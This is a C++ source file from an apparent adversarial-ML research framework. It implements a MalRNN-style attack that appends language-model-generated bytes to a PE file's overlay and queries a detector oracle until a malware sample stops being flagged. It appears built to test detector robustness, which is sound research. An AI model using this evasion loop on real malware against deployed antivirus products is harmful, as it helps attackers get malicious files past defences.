#include "attack/malrnn.hpp"

#include "obs/span.hpp"
#include "obs/trace.hpp"
#include "pe/pe.hpp"

namespace mpass::attack {

using util::ByteBuf;

constexpr std::size_t kInitialChunk = 2048;
constexpr double kGrowth = 1.5;             // chunk growth per miss
constexpr std::size_t kMaxChunk = 8192;     // per-query generation cap
constexpr std::size_t kMaxTotal = 1 << 16;  // appended-bytes cap; then resample
constexpr float kTemperature = 0.8f;

AttackResult MalRnn::run(std::span<const std::uint8_t> malware,
                         detect::HardLabelOracle& oracle,
                         std::uint64_t seed) {
  OBS_SCOPE("attack.malrnn.run");
  util::Rng rng(seed);
  AttackResult result;
  result.adversarial.assign(malware.begin(), malware.end());

  pe::PeFile pe;
  try {
    pe = pe::PeFile::parse(malware);
  } catch (const util::ParseError&) {
    return result;
  }

  const std::size_t original_overlay = pe.overlay.size();
  std::size_t chunk = kInitialChunk;
  std::size_t appended = 0;
  while (!oracle.exhausted()) {
    // Once the append budget is exhausted, strip back to the original
    // overlay and resample a fresh stream (bounded file size, new dice).
    if (appended >= kMaxTotal) {
      pe.overlay.resize(original_overlay);
      appended = 0;
      chunk = kInitialChunk;
    }
    // Condition the LM on the current overlay tail so the stream continues
    // naturally (the seq2seq conditioning of the original attack).
    std::span<const std::uint8_t> context(pe.overlay);
    ByteBuf generated = lm_.generate(chunk, rng, context, kTemperature);
    pe.overlay.insert(pe.overlay.end(), generated.begin(), generated.end());
    appended += generated.size();

    pe::Layout layout;
    ByteBuf sample = pe.build_with_layout(&layout);
    // Where the chunk landed: byte nets read only a file's first max_len
    // bytes, so an append past that window cannot move their score.
    if (obs::tracing())
      obs::Event("action")
          .str("kind", "malrnn_append")
          .uint("offset", layout.overlay_offset + pe.overlay.size() -
                              generated.size())
          .uint("len", generated.size())
          .uint("size", sample.size());
    const bool detected = oracle.query(sample);
    if (!detected) {
      result.success = true;
      result.adversarial = std::move(sample);
      break;
    }
    chunk = std::min(kMaxChunk, static_cast<std::size_t>(
                                    static_cast<double>(chunk) * kGrowth));
    result.adversarial = std::move(sample);
  }
  return result;
}

}  // namespace mpass::attack
